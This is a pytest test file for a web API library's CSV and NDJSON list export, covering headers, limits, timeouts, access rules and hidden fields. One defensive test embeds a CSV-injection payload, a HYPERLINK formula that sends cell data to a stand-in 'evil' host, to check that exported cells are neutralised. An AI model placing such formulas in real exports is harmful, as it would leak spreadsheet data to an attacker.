"""A list may be had whole, as CSV or NDJSON: the same rows, values and refusals as page by page, where it says so."""

import csv
import io
import json
import threading
from typing import Any

import pytest
from django.db import OperationalError
from django.db.models import Avg, Count, Q

from nuages import API, anyone, field, nested, staff, value
from nuages.errors import BrokenOff, DeclarationError
from nuages.execute.limits import OutOfTime
from nuages.exports import outgoing, slots
from shop.models import Author, Book, Review
from tests.http.asking import ask, refusal, send, serve
from tests.http.client import get
from tests.http.exporting import CSV, NDJSON, export, lines, table
from tests.http.rules_asked import guarded
from tests.http.shaded import HIDDEN, shaded_api, staff_user
from tests.zoo.models import Specimen

BOTH = {"exports": ["csv", "ndjson"]}
BOOKS: dict[str, Any] = {
    "fields": [
        *("id", "title", "price", "in_print"),
        nested("author", "id", "name"),
        nested("publisher", "name"),
        nested("reviews", "id", "stars", order="stars,-id"),
        value("review_count", Count("reviews")),
        value("stars", Avg("reviews__stars")),
    ],
    "filters": ["price", "author__country", "reviews__stars", "title"],
    "ordering": ["price", "id", "stars", "author__name"],
    "search": ["title"],
    "groups": ["in_print", "author__country"],
    "measures": ["price"],
    **BOTH,
}
QUESTIONS = [
    "",
    "?price__gte=20&order=-price,id",
    "?search=the&order=author__name,-id",
    "?filter=price > 10 AND NOT in_print = true",
    "?order=-stars,id&fields=id,stars,reviews.stars",
    "?reviews__stars__gte=4&fields=title,author.name",
    "?group=author__country,in_print&aggregate=count(),avg(price)&order=-count",
    "?limit=7&order=-id",
]


@pytest.fixture
def books(shop: Any) -> API:
    """Books with all that belongs to them."""
    return serve(books=(Book, {**BOOKS, "filters": [*BOOKS["filters"], "in_print"]}))


@pytest.mark.parametrize("question", QUESTIONS)
def test_lines_are_the_items_of_the_list(books: API, question: str) -> None:
    """The same documents in the same order, whatever is asked."""
    assert lines(books, f"/books{question}") == ask(books, f"/books{question or '?limit=200'}")["items"]


def test_a_question_in_a_body_is_exported(books: API) -> None:
    """QUERY takes what a GET takes."""
    response, text = export(
        books, "/books", NDJSON, "QUERY", body=b"price__gte=20&order=price,id",
        content_type="application/x-www-form-urlencoded",
    )  # fmt: skip
    assert response.status == 200
    shown = ask(books, "/books?price__gte=20&order=price,id")["items"]
    assert [json.loads(line) for line in text.splitlines()] == shown


def test_a_row_is_a_line_of_a_table(books: API) -> None:
    """A related row is columns of its own, empty where there is none; several are one cell of JSON."""
    Book.objects.filter(pk=1).update(publisher=None, in_print=False)
    headings, *rows = table(books, "/books?order=id")
    assert headings == [
        *("id", "title", "price", "in_print", "author.id", "author.name"),
        *("publisher.name", "reviews", "review_count", "stars"),
    ]
    for row, item in zip(rows, ask(books, "/books?order=id&limit=200")["items"], strict=True):
        cells = dict(zip(headings, row, strict=True))
        assert (cells["id"], cells["title"], cells["price"]) == (str(item["id"]), item["title"], item["price"])
        assert cells["in_print"] == ("true" if item["in_print"] else "false")
        assert cells["author.name"] == item["author"]["name"]
        assert cells["publisher.name"] == ((item["publisher"] or {}).get("name") or "")
        assert "\n" not in cells["reviews"]
        assert json.loads(cells["reviews"]) == item["reviews"]
        assert cells["stars"] == ("" if item["stars"] is None else json.dumps(item["stars"]))


def test_groups_are_exported(books: API) -> None:
    """With the names that they have in JSON for headings."""
    asked = "/books?group=in_print&aggregate=count(),avg(price)&order=in_print"
    headings, *rows = table(books, asked)
    items = ask(books, asked)["items"]
    assert headings == list(items[0])
    assert [row[0] for row in rows] == [json.dumps(item["in_print"]) for item in items]


def test_an_empty_list_has_headings(books: API) -> None:
    """Those that were asked for; lines there are none."""
    assert table(books, "/books?price=-1&fields=id,author.name") == [["id", "author.name"]]
    assert export(books, "/books?price=-1", NDJSON)[1] == ""


def test_what_a_file_says_of_itself(books: API) -> None:
    """A name, a type, no length, no validators; and that nobody keeps it."""
    headers = {name: text for name, text in export(books, "/books")[0].headers}  # noqa: C416
    assert headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert headers["Content-Disposition"] == 'attachment; filename="books.csv"'
    assert headers["Vary"].startswith("Accept")
    assert headers.keys().isdisjoint({"ETag", "Last-Modified", "Content-Length", "Link"})
    assert headers["Cache-Control"] == "no-cache"
    assert export(books, "/books", NDJSON)[0].header("Content-Type") == NDJSON


def test_head_runs_no_statement(books: API, statements: Any) -> None:
    """And has the same headers; what is wrong in the question is wrong there, too."""
    export(books, "/books")
    statements.clear()
    response, text = export(books, "/books", CSV, "HEAD")
    assert (response.status, response.pieces, text, list(statements)) == (200, None, "", [])
    assert response.header("Content-Disposition") == 'attachment; filename="books.csv"'
    assert export(books, "/books?prize=1", CSV, "HEAD")[0].status == 400


@pytest.mark.parametrize(
    ("accept", "chosen"),
    [
        ("text/csv", CSV),
        ("application/x-ndjson", NDJSON),
        ("text/*", CSV),
        ("application/json;q=0.5, text/csv", CSV),
        ("text/csv;q=0.5, application/json;q=0.4, application/x-ndjson;q=0.9", NDJSON),
        ("text/csv, application/json", "application/json"),
        ("*/*", "application/json"),
        ("application/*", "application/json"),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "application/json"),
        ("text/csv;q=0, text/*", None),
        ("text/html", None),
    ],
)
def test_accept_chooses(books: API, accept: str, chosen: str | None) -> None:
    """What the client likes best, JSON where it likes all alike; what it refuses by name, no wider range brings."""
    response, _ = export(books, "/books", accept)
    if chosen is None:
        assert (response.status, json.loads(response.body)["type"]) == (406, "urn:nuages:problem:not-acceptable")
    else:
        assert str(response.header("Content-Type")).partition(";")[0] == chosen


def test_nothing_is_exported_unless_it_says_so(shop: Any) -> None:
    """A resource without `exports` answers 406, and so does a format that is not among them; members are JSON."""
    api = serve(
        books=(Book, {"fields": ["id"]}),
        authors=(Author, {"fields": ["id"], "exports": ["ndjson"]}),
    )
    assert export(api, "/books")[0].status == 406
    assert export(api, "/authors")[0].status == 406
    assert export(api, "/authors", NDJSON)[0].status == 200
    assert export(api, "/authors/1", NDJSON)[0].status == 406


@pytest.mark.parametrize("name", ["cursor", "offset", "page", "count"])
def test_a_file_has_no_pages(books: API, name: str) -> None:
    """A place and a count are refused by name."""
    status, code, detail = refusal(books, f"/books?{name}=1", accept=CSV)
    assert (status, code) == (400, "unknown-parameter")
    assert detail.startswith(f"{name}: an export has no pages")


def test_a_list_that_is_too_long_is_refused(shop: Any) -> None:
    """Before anything of it is sent; a limit takes the first rows, and no more than that many."""
    api = serve(books=(Book, {**BOOKS, "max_export": 19}))
    status, code, detail = refusal(api, "/books", accept=CSV)
    assert (status, code, "limit=19" in detail) == (422, "too-many-rows", True)
    assert refusal(api, "/books?limit=20", accept=CSV)[:2] == (400, "invalid-limit")
    assert len(lines(api, "/books?limit=19")) == 19
    assert len(lines(api, "/books?price__gte=0&limit=3")) == 3
    assert len(lines(serve(books=(Book, {**BOOKS, "max_export": 20})), "/books")) == 20
    assert len(lines(serve(books=(Book, {**BOOKS, "max_export": 2})), "/books?group=in_print")) == 2


def test_a_list_that_grows_meanwhile_is_broken_off(shop: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """It does not end as though it were whole."""
    monkeypatch.setattr("nuages.exports.answer._demand_few", lambda *_: None)
    monkeypatch.setattr("nuages.execute.rows._FIRST_ROWS", 5)
    api = serve(books=(Book, {**BOOKS, "max_export": 19}))
    response = send(api, "/books", accept=NDJSON)
    assert response.pieces is not None
    with pytest.raises(BrokenOff) as caught:
        b"".join(response.pieces)
    response.pieces.close()
    assert caught.value.problem.code == "too-many-rows"


def test_every_kind_of_value(database: Any) -> None:
    """Decimals, moments and truths as in JSON; JSON and lists as JSON; null and an empty text are both empty."""
    Specimen.objects.create(
        integer=-3, char="a,\"b\"\r\nc", text="", boolean=False, decimal="-1.500", float=0.1, json={"a": ["=1"]},
        binary=b"+\xff", big=2**53 + 1,
    )  # fmt: skip
    fields = ["integer", "big", "char", "text", "slug", "boolean", "decimal", "float", "json", "binary", "doubled"]
    api = serve(specimens=(Specimen, {"fields": fields, **BOTH}))
    _, text = export(api, "/specimens")
    assert text.startswith(",".join(fields) + "\r\n")
    assert text.endswith("\r\n")
    (row,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    json_cell = row.pop(8)
    assert json.loads(json_cell) == {"a": ["=1"]}
    assert row == ["-3", "9007199254740993", 'a,"b"\r\nc', "", "", "false", "-1.500", "0.1", "K/8=", "-6"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_is_a_formula(database: Any, start: str) -> None:  # CSV injection
    """Not of the row, a related one or a value in Python; numbers stay as they are; an author may opt out."""
    evil = f'{start}HYPERLINK("http://evil/?"&A1)'
    author = Author.objects.create(name=evil)
    Book.objects.create(title=evil, price="-1.50", author=author)
    fields = ["title", "price", nested("author", "name"), value("loud", python=lambda row: row["title"])]
    api = serve(
        books=(Book, {"fields": fields, **BOTH}),
        raw=(Book, {"fields": fields, **BOTH, "guard_csv": False}),
    )
    assert table(api, "/books")[1] == [f"'{evil}", "-1.50", f"'{evil}", f"'{evil}"]
    assert table(api, "/raw")[1] == [evil, "-1.50", evil, evil]
    assert lines(api, "/books")[0]["title"] == evil


def test_values_made_in_python_are_there(shop: Any) -> None:
    """They are made row by row, as for a page."""
    loud = value("loud", python=lambda row: row["title"].upper(), needs=["price"])
    api = serve(books=(Book, {"fields": ["title", loud], **BOTH, "order": "id"}))
    assert lines(api, "/books") == ask(api, "/books")["items"]
    assert table(api, "/books?fields=loud")[0] == ["loud"]


def test_a_value_that_fails_breaks_it_off(shop: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the first rows it is a problem; later there is no end."""
    monkeypatch.setattr("nuages.execute.rows._FIRST_ROWS", 5)

    def fail(row: dict[str, Any]) -> int:
        return 1 // (row["id"] - last)

    api = serve(books=(Book, {"fields": ["id", value("bad", python=fail)], **BOTH, "order": "id"}))
    last = 3
    assert send(api, "/books", accept=NDJSON).status == 500
    last = 9
    response = send(api, "/books", accept=NDJSON)
    assert response.pieces is not None
    first = next(response.pieces)
    assert [json.loads(line)["id"] for line in first.splitlines()] == [1, 2, 3, 4, 5]
    with pytest.raises(BrokenOff):
        list(response.pieces)
    with pytest.raises(BrokenOff):
        next(response.pieces)
    response.pieces.close()


def test_rules_narrow_the_rows(shop: Any) -> None:  # Z01
    """A rule that is about rows, a queryset, and the rules of what is nested."""
    api = serve(
        books=(Book, {**BOOKS, "rules": {"read": lambda _: Q(price__lt=20)}}),
        reviews=(Review, {"fields": ["id"], "rules": {"read": lambda _: Q(stars__gte=4)}}),
    )
    found = lines(api, "/books?order=id")
    assert found == ask(api, "/books?order=id&limit=200")["items"]
    assert 0 < len(found) < 20
    assert all(float(each["price"]) < 20 for each in found)
    assert all(review["stars"] >= 4 for each in found for review in each["reviews"])
    assert dict(export(api, "/books")[0].headers)["Cache-Control"] == "private, no-store"


def test_rules_close_the_list(shop: Any) -> None:
    """Nobody gets a file of what nobody may read, nor learns from a HEAD what is there."""
    api, who = guarded({"read": staff}, **BOTH)
    for method in ("GET", "HEAD", "QUERY"):
        assert export(api, "/authors", CSV, method)[0].status == 401
    who.principal = staff_user()
    assert export(api, "/authors")[0].status == 200


def test_hidden_members_are_in_no_file(shop: Any) -> None:  # Z14
    """Not as a heading, not as a cell, not as a filter; who may see them gets them."""
    api, who = shaded_api(**BOTH)
    _, text = export(api, "/books", NDJSON)
    assert not any(f'"{name}"' in text for name in (*HIDDEN[:4], "label", "born"))
    assert table(api, "/books")[0] == ["id", "title", "isbn", "author.id", "author.name", "reviews"]
    assert refusal(api, "/books?price__gte=1", accept=CSV)[:2] == (400, "unknown-parameter")
    assert refusal(api, "/books?fields=price", accept=CSV)[:2] == (400, "unknown-field")
    who.principal = staff_user()
    assert set(HIDDEN) - {"publisher"} < set(table(api, "/books")[0])
    assert lines(api, "/books") == ask(api, "/books?limit=200")["items"]


def test_costs_have_a_ceiling(books: API, settings: Any) -> None:
    """The planner is asked about the whole list; on SQLite nobody can be."""
    settings.NUAGES_COST_CEILING = {"anonymous": 0.5}
    api = serve(books=(Book, BOOKS))
    assert export(api, "/books")[0].status in (200, 422)
    if Book.objects.db == "postgres":
        assert refusal(api, "/books", accept=CSV)[:2] == (422, "too-costly")


def test_only_so_many_at_once(books: API, settings: Any) -> None:
    """More are told to come again; one that ends makes room, also one that nobody reads."""
    settings.NUAGES_MAX_EXPORTS = 2
    first, second = send(books, "/books", accept=CSV), send(books, "/books", accept=NDJSON)
    third = send(books, "/books", accept=CSV)
    assert (third.status, third.header("Retry-After")) == (503, "10")
    assert json.loads(third.body)["type"] == "urn:nuages:problem:too-many-exports"
    assert first.pieces is not None
    first.pieces.close()
    assert export(books, "/books")[0].status == 200
    del second
    assert slots._taken == 0


def test_a_refused_export_takes_no_room(books: API, settings: Any) -> None:
    """Neither one that is too long, nor one that the database refuses, nor a HEAD."""
    settings.NUAGES_MAX_EXPORTS = 1
    api = serve(books=(Book, {**BOOKS, "max_export": 2}))
    for _ in range(2):
        assert export(api, "/books")[0].status == 422
        assert export(books, "/books", CSV, "HEAD")[0].status == 200
    assert export(books, "/books")[0].status == 200
    assert slots._taken == 0


def test_what_nobody_asks_for_is_ended(books: API, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its rows are let go; whoever comes back for them finds no clean end."""
    monkeypatch.setattr("nuages.execute.rows._FIRST_ROWS", 5)
    response = send(books, "/books", accept=NDJSON)
    pieces = response.pieces
    assert isinstance(pieces, outgoing.Outgoing)
    next(pieces)
    pieces.end_if_late(pieces._asked_s + 59)
    assert next(pieces)
    pieces.end_if_late(pieces._asked_s + 61)
    with pytest.raises(BrokenOff) as caught:
        next(pieces)
    assert (caught.value.problem.status, caught.value.problem.code) == (503, "export-too-slow")
    pieces.close()


def test_the_whole_has_its_time(books: API, settings: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """However eagerly it is read; the watch sees to it."""
    monkeypatch.setattr("nuages.execute.rows._FIRST_ROWS", 5)
    monkeypatch.setattr("nuages.exports.watch._EVERY_S", 0.05)
    settings.NUAGES_EXPORT_TIMEOUT_S = 0.01
    response = send(books, "/books", accept=NDJSON)
    assert isinstance(response.pieces, outgoing.Outgoing)
    is_over = threading.Event()
    while not (response.pieces._problem or is_over.wait(0.02)):
        pass
    with pytest.raises(BrokenOff):
        next(response.pieces)
    response.pieces.close()


def test_a_statement_has_its_time(books: API, monkeypatch: pytest.MonkeyPatch) -> None:
    """One that takes too long is the problem that it is in JSON."""

    def fail(*_: Any) -> None:
        raise OutOfTime(10)

    monkeypatch.setattr("nuages.execute.rows.Rows._fetch", fail)
    response, _ = export(books, "/books")
    assert (response.status, json.loads(response.body)["type"]) == (503, "urn:nuages:problem:statement-timeout")


def test_a_database_that_goes_away_breaks_it_off(books: API, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every line that came is whole."""
    monkeypatch.setattr("nuages.execute.rows._FIRST_ROWS", 5)
    response = send(books, "/books", accept=NDJSON)
    assert response.pieces is not None
    first = next(response.pieces)

    def fail(*_: Any) -> None:
        raise OperationalError("the connection is closed")

    monkeypatch.setattr("nuages.execute.rows.Rows._fetch", fail)
    assert first.endswith(b"}\n")
    with pytest.raises(BrokenOff) as caught:
        next(response.pieces)
    assert caught.value.problem.status == 503
    assert slots._taken == 1
    response.pieces.close()
    assert slots._taken == 0


def test_django_serves_it(shop: Any) -> None:
    """Through the view, with a length where the server could not break it off."""
    response = get("/api/books", Accept=CSV)
    body = b"".join(response.streaming_content)
    assert (response.status_code, response.headers["Content-Length"]) == (200, str(len(body)))
    assert len(list(csv.reader(io.StringIO(body.decode(), newline="")))) == 21
    response.close()
    assert slots._taken == 0
    assert get("/api/reviews", Accept=CSV).status_code == 406


@pytest.mark.parametrize(
    ("attributes", "said"),
    [
        ({"exports": ["cvs"]}, "there is no format 'cvs'"),
        ({"exports": "csv"}, "is no list"),
        ({"exports": ["csv"], "max_export": 0}, "max_export = 0"),
        ({"exports": ["csv"], "max_export": None}, "max_export = None"),
        ({"exports": ["csv"], "rules": {"create": anyone}}, "nobody may read"),
    ],
)
def test_a_wrong_declaration_is_told(attributes: dict[str, Any], said: str) -> None:
    """E059 at start-up, E022 where there is no list."""
    with pytest.raises(DeclarationError, match=said) as caught:
        serve(books=(Book, {"fields": ["id", field("title")], **attributes})).build()
    assert {each.id for each in caught.value.mistakes} <= {"nuages.E059", "nuages.E022"}


@pytest.mark.parametrize(
    ("name", "given"),
    [
        ("NUAGES_MAX_EXPORTS", 0),
        ("NUAGES_MAX_EXPORTS", 1.5),
        ("NUAGES_EXPORT_TIMEOUT_S", "long"),
        ("NUAGES_EXPORT_STALL_S", True),
    ],
)
def test_a_wrong_setting_is_told(settings: Any, name: str, given: Any) -> None:
    """E059, by name."""
    setattr(settings, name, given)
    with pytest.raises(DeclarationError, match=name):
        serve(books=(Book, {"fields": ["id"]})).build()
